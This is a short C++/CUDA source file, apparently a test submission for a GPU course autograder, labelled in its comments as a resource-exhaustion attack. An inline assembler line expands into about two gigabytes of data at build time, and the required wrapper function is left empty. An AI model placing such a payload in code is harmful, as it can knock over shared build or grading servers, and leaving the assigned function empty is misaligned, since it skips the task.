// attack: exhaust
// root: resources
// what: has two lines for the assembler that become two gigabytes
// list: 10
#include <cstdio>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

asm(".data\n.rept 2000000000\n.byte 1\n.endr\n.text");

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {

}
